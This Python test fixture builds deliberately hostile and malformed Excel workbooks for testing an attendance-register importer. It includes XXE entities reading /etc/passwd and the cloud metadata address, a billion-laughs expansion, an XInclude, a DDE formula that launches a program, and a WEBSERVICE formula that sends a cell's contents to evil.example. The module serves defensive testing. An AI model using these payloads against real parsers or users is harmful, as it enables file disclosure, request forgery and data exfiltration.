"""Workbooks that are whole packages, and hold what should not be taken for what it says."""

from collections.abc import Callable
from datetime import date, datetime, time, timedelta
from typing import Any

from openpyxl import Workbook
from openpyxl.utils.datetime import CALENDAR_MAC_1904

from tests.support.hostile_files.packages import changed, parts_of
from tests.support.weekly_sheets import SHEET as WEEK
from tests.support.workbooks import SHEET, sheet_xml, with_parts, workbook

ON, STYLES = date(2026, 9, 16), "xl/styles.xml"
SECOND_ROW = b'<row r="2"'
ENTITIES = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
NAMED = b'<row r="1"><c r="A1" t="inlineStr"><is><t>&b;</t></is></c></row>'
DRAWN = b'<x xmlns="y"/>'


def hidden(attributes: bytes) -> bytes:
    """Return a workbook whose second row has other attributes."""
    return changed(SHEET, SECOND_ROW, b"<row " + attributes + b' r="2"')


def with_head(head: bytes, inside: bytes = NAMED) -> bytes:
    """Return a workbook whose sheet begins with a definition of its kind."""
    return with_parts({SHEET: sheet_xml(inside, head=head)})


def defined(part: str) -> bytes:
    """Return a workbook one of whose parts has a definition of its kind."""
    return with_parts({part: b"<!DOCTYPE x [<!ENTITY a 'b'>]>" + parts_of()[part]})


def cells(**named: Any) -> bytes:
    """Return a workbook with other things in some cells of the row."""
    return workbook(mend=lambda book: _set(**named)(book.active))


def formatted(name: str, value: float, form: str) -> bytes:
    """Return a workbook with a number that is shown in a form."""

    def mend(sheet: Any) -> None:
        sheet[name] = value
        sheet[name].number_format = form

    return workbook(mend=lambda book: mend(book.active))


def raw_cell(name: bytes, inside: bytes) -> bytes:
    """Return a workbook with a cell of the row as it is written in XML."""
    content = parts_of()[SHEET]
    start = content.index(b'<c r="' + name + b'"')
    end = content.index(b"</c>", start) + 4
    return with_parts({SHEET: content[:start] + inside + content[end:]})


def sheets(count: int, *, are_filled: bool) -> bytes:
    """Return a workbook of several sheets."""

    def mend(book: Workbook) -> None:
        for number in range(count):
            sheet = book.create_sheet(f"Week {number}")
            if are_filled:
                sheet.append(["x"])

    return workbook(mend=mend)


def mended(mend: Callable[[Workbook], object]) -> Callable[[], bytes]:
    """Return a builder of a workbook that is changed before it is saved."""
    return lambda: workbook(mend=mend)


def rows(count: int) -> bytes:
    """Return a workbook of many rows."""
    return workbook(*([(ON, "AM", "place-p1", "late", time(9, 10), "")] * count))


def far(name: bytes) -> bytes:
    """Return a workbook that has one cell and another far from it."""
    row = int(name.lstrip(b"ABCDEFGHIJKLMNOPQRSTUVWXYZ"))
    last = b'<row r="%d"><c r="%s"><v>1</v></c></row>' % (row, name)
    first = b"" if row == 1 else b'<row r="1"><c r="A1"><v>1</v></c></row>'
    return with_parts({SHEET: sheet_xml(first + last)})


def weekly(mend: Callable[[Any], object] = lambda sheet: sheet) -> bytes:
    """Return the weekly sheet as a workbook; `mend` may change it."""

    def fill(book: Workbook) -> None:
        book.active.delete_rows(1, 100)
        for line in WEEK.splitlines():
            book.active.append([each.strip('"') for each in line.split(",", 14)] if "," in line else [line])
        mend(book.active)

    return workbook(mend=fill)


def _set(**named: Any) -> Callable[[Any], object]:
    return lambda sheet: [sheet.__setitem__(name, value) for name, value in named.items()]


SHEETS: dict[str, Callable[[], bytes]] = {
    # Definitions, and what they would bring in.
    "a definition that grows": lambda: with_head(ENTITIES),
    "a definition of a file": lambda: with_head(b'<!DOCTYPE x [<!ENTITY b SYSTEM "file:///etc/passwd">]>'),
    "a definition of an address": lambda: with_head(b'<!DOCTYPE x [<!ENTITY b SYSTEM "http://169.254.169.254/">]>'),
    "a definition of a parameter": lambda: with_head(b'<!DOCTYPE x [<!ENTITY % b SYSTEM "file:///x"> %b;]>'),
    "a definition that is elsewhere": lambda: with_head(b'<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">'),
    "a definition in small letters": lambda: with_head(b"<!doctype x>"),
    "a definition of great size": lambda: with_head(b"<!DOCTYPE x [" + b"<!ENTITY a 'b'>" * 5_000 + b"]>"),
    "a definition in UTF-16": lambda: with_parts({SHEET: "<!DOCTYPE x [<!ENTITY a 'b'>]><x/>".encode("utf-16")}),
    "a name that is not defined": lambda: with_head(b""),
    "a definition in the workbook": lambda: defined("xl/workbook.xml"),
    "a definition in the styles": lambda: defined(STYLES),
    "a definition in the links": lambda: defined("xl/_rels/workbook.xml.rels"),
    "a definition in the kinds": lambda: defined("[Content_Types].xml"),
    "a definition in the properties": lambda: defined("docProps/core.xml"),
    "a definition in a drawing": lambda: with_parts({"xl/drawings/vmlDrawing1.vml": ENTITIES + DRAWN}),
    "another document brought in": lambda: changed(
        SHEET,
        SECOND_ROW,
        b'<i:include xmlns:i="http://www.w3.org/2001/XInclude" href="file:///etc/passwd"/>' + SECOND_ROW,
    ),
    "a style sheet": lambda: with_parts({SHEET: b'<?xml-stylesheet href="http://evil.example"?>' + parts_of()[SHEET]}),
    "a link to another workbook": lambda: with_parts(
        {"xl/externalLinks/_rels/externalLink1.xml.rels": b'<x Target="file://evil.example/x.xlsx" xmlns="y"/>'}
    ),
    # What nobody sees.
    "a hidden row": lambda: hidden(b'hidden="1"'),
    "a hidden row in a word": lambda: hidden(b'hidden="true"'),
    "a hidden row in single quotes": lambda: hidden(b"hidden='1'"),
    "a hidden row with blanks": lambda: hidden(b'hidden = "1"'),
    "a hidden row over two lines": lambda: hidden(b'hidden\n=\n"1"'),
    "a hidden row as a number of a character": lambda: hidden(b'hidden="&#49;"'),
    "a hidden row behind a bracket": lambda: hidden(b'x=">" hidden="1"'),
    "a hidden row behind 2,000 letters": lambda: hidden(b'x="' + b"y" * 2_000 + b'" hidden="1"'),
    "a hidden row in another word": lambda: hidden(b'hidden="yes"'),
    "a row without height": lambda: hidden(b'ht="0" customHeight="1"'),
    "a row that says it is not hidden": lambda: hidden(b'hidden="0"'),
    "a row of which a script wrote the height": lambda: hidden(b'ht="high"'),
    "a hidden row in UTF-16": lambda: with_parts(
        {SHEET: parts_of()[SHEET].replace(SECOND_ROW, b'<row hidden="1" r="2"').decode().encode("utf-16")}
    ),
    "a hidden column": mended(lambda book: setattr(book.active.column_dimensions["C"], "hidden", True)),
    "a column without width": lambda: changed(
        SHEET, b"<sheetData>", b'<cols><col min="3" max="3" width="0" customWidth="1"/></cols><sheetData>'
    ),
    "rows that are folded away": mended(lambda book: book.active.row_dimensions.group(2, 2, hidden=True)),
    "a hidden sheet": mended(lambda book: setattr(book.create_sheet("Old"), "sheet_state", "hidden")),
    "a very hidden sheet": mended(lambda book: setattr(book.create_sheet("Old"), "sheet_state", "veryHidden")),
    "a sheet in another part": lambda: with_parts(
        {
            "xl/other.bin": hidden(b'hidden="1"') and parts_of(hidden(b'hidden="1"'))[SHEET],
            "xl/_rels/workbook.xml.rels": parts_of()["xl/_rels/workbook.xml.rels"].replace(
                b"/xl/worksheets/sheet1.xml", b"/xl/other.bin"
            ),
        }
    ),
    # Macros, and what is to be run.
    "macros": lambda: with_parts({"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}),
    "macros in capitals": lambda: with_parts({"XL/VBAPROJECT.BIN": b"\xd0\xcf\x11\xe0"}),
    "macros of Excel 4": lambda: with_parts({"xl/macrosheets/sheet1.xml": b"<xm:macrosheet xmlns:xm='x'/>"}),
    "an object of another program": lambda: with_parts({"xl/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}),
    "a formula of another program": lambda: cells(F2="=cmd|' /C calc'!A0"),
    "a formula that asks elsewhere": lambda: cells(F2='=WEBSERVICE("http://evil.example/"&C2)'),
    "a formula for a status": lambda: cells(D2='=IF(A2>0,"present","absent")'),
    "a formula that came to nothing": lambda: raw_cell(b"D2", b'<c r="D2" t="str"><f>A1</f><v></v></c>'),
    "a formula with what it was": lambda: raw_cell(b"D2", b'<c r="D2" t="str"><f>A1</f><v>present</v></c>'),
    "a formula with a walk-off": lambda: raw_cell(b"D2", b'<c r="D2" t="str"><f>A1</f><v>absconded</v></c>'),
    # Sheets of a wrong size.
    "300 empty sheets": lambda: sheets(300, are_filled=False),
    "two sheets": lambda: sheets(1, are_filled=True),
    "40 sheets": lambda: sheets(40, are_filled=True),
    "a sheet that says it is vast": lambda: changed(SHEET, b'ref="A1:F2"', b'ref="A1:XFD1048576"'),
    "a cell in the last row": lambda: far(b"A1048576"),
    "a cell in the last column": lambda: far(b"XFD1"),
    "a cell beyond the last row": lambda: far(b"A99999999"),
    "16,384 columns": lambda: with_parts(
        {SHEET: sheet_xml(b'<row r="1">' + b"<c><v>1</v></c>" * 16_384 + b"</row>")}
    ),
    "cells of no name": lambda: changed(SHEET, b' r="D2"', b""),
    "a cell of another name": lambda: raw_cell(b"D2", b'<c r="?"><v>1</v></c>'),
    "a row of no number": lambda: changed(SHEET, SECOND_ROW, b'<row r="two"'),
    "cells over each other": lambda: raw_cell(
        b"D2", b'<c r="D2" t="str"><v>present</v></c><c r="D2" t="str"><v>absent</v></c>'
    ),
    "a cell twice in other rows": lambda: changed(
        SHEET, b"</sheetData>", b'<row r="3"><c r="D2" t="str"><v>present</v></c></row></sheetData>'
    ),
    "numbers of a drawing": lambda: with_parts(
        {"xl/charts/chart1.xml": b'<c:chart xmlns:c="x"><c:v>-3</c:v><c:v>-4</c:v></c:chart>'}
    ),
    "an empty sheet that is there": lambda: with_parts({SHEET: sheet_xml(b"")}),
    # Cells.
    "#REF!": lambda: raw_cell(b"D2", b'<c r="D2" t="e"><v>#REF!</v></c>'),
    "#N/A": lambda: raw_cell(b"D2", b'<c r="D2" t="e"><v>#N/A</v></c>'),
    "true": lambda: cells(D2=True),
    "a number for a status": lambda: cells(D2=1),
    "a number for a placement": lambda: cells(C2=20260916),
    "a number too long for Excel": lambda: cells(C2=1.2345678901234568e19),
    "infinity": lambda: raw_cell(b"D2", b'<c r="D2"><v>1e999</v></c>'),
    "no number": lambda: raw_cell(b"D2", b'<c r="D2"><v>NaN</v></c>'),
    "a number that is none": lambda: raw_cell(b"D2", b'<c r="D2"><v>one</v></c>'),
    "a date as text": lambda: cells(A2="16/09/2026"),
    "a date the other way": lambda: cells(A2="09/16/2026"),
    "a date as its number": lambda: cells(A2=46281),
    "a date with a time": lambda: cells(A2=datetime.combine(ON, time(9, 5))),
    "a date in 9999": lambda: cells(A2=date(9999, 12, 31)),
    "a date in 1900": lambda: cells(A2=date(1900, 1, 1)),
    "a date that never was": lambda: formatted("A2", 60, "yyyy-mm-dd"),
    "a date beyond all": lambda: formatted("A2", 3_000_000, "yyyy-mm-dd"),
    "a date below nought": lambda: formatted("A2", -5, "yyyy-mm-dd"),
    "a time below nought": lambda: formatted("E2", -0.6, "hh:mm"),
    "hours below nought": lambda: formatted("E2", -0.6, "[h]:mm"),
    "a time in the next day": lambda: formatted("E2", 1.4, "hh:mm"),
    "hours of more than a day": lambda: cells(E2=timedelta(hours=33)),
    "a number below nought that is no time": lambda: cells(F2=-5),
    "a time as a number": lambda: cells(E2=9.1),
    "days since 1904": mended(lambda book: setattr(book, "epoch", CALENDAR_MAC_1904)),
    "text in parts": lambda: raw_cell(
        b"D2", b'<c r="D2" t="inlineStr"><is><r><t>pres</t></r><r><t>ent</t></r></is></c>'
    ),
    "text with its sounds": lambda: raw_cell(
        b"D2", b'<c r="D2" t="inlineStr"><is><t>present</t><rPh sb="0" eb="1"><t>absent</t></rPh></is></c>'
    ),
    "letters of another alphabet": lambda: cells(D2="pr\u0435sent"),
    "letters of full width": lambda: cells(D2="ｐｒｅｓｅｎｔ"),
    "a mark that turns the text round": lambda: cells(D2="\u202etneserp"),
    "blanks without width in a word": lambda: cells(D2="pre\u200bsent"),
    "blanks without width about a word": lambda: cells(D2="\u200bpresent\ufeff"),
    "two words": lambda: cells(D2="present, late"),
    "a code of the national set": lambda: cells(D2="/"),
    "a code that says another thing": lambda: cells(D2="O"),
    "a walk-off": lambda: cells(D2="walked off"),
    "a note of 32,767 letters": lambda: cells(F2="x" * 32_767),
    "1,000 lines in a note": lambda: cells(F2="a\n" * 1_000),
    "merged headings": mended(lambda book: book.active.merge_cells("A1:B1")),
    "a heading twice": lambda: cells(F1="Attendance"),
    "a row below without an end": lambda: cells(G2="absent"),
    "10,001 rows": lambda: rows(10_001),
    # A week.
    "a week": weekly,
    "a week of which a row is hidden": lambda: weekly(lambda sheet: setattr(sheet.row_dimensions[4], "hidden", True)),
    "a week with merged marks": lambda: weekly(lambda sheet: sheet.merge_cells("E3:F3")),
    "a week with a mark made a date": lambda: weekly(_set(E3=date(2025, 2, 1), F3="1-2", G3="=O")),
    "a week with broken marks": lambda: weekly(_set(E3="#REF!", F3=True, G3=1, H3=0.5, I3=time(9, 50))),
    "a week with marks of another alphabet": lambda: weekly(_set(E3="\u041e", F3="Ｏ", G3="0", H3="\u039f", I3="◯")),
    "a week of another year": lambda: weekly(_set(A1="Week commencing: 08/09/1925")),
    "a week that begins on a Tuesday": lambda: weekly(_set(A1="Week commencing: 09/09/2025")),
    "a week without its Monday": lambda: weekly(_set(A1="Register")),
    "two weeks": lambda: weekly(_set(A6="Week commencing: 15/09/2025")),
    "a day twice": lambda: weekly(_set(G2="Mon AM")),
    "a week with one born otherwise": lambda: weekly(_set(C3="03/02/2012")),
    "a week with a date of birth the other way": lambda: weekly(_set(C3="02/13/2011")),
}  # fmt: skip
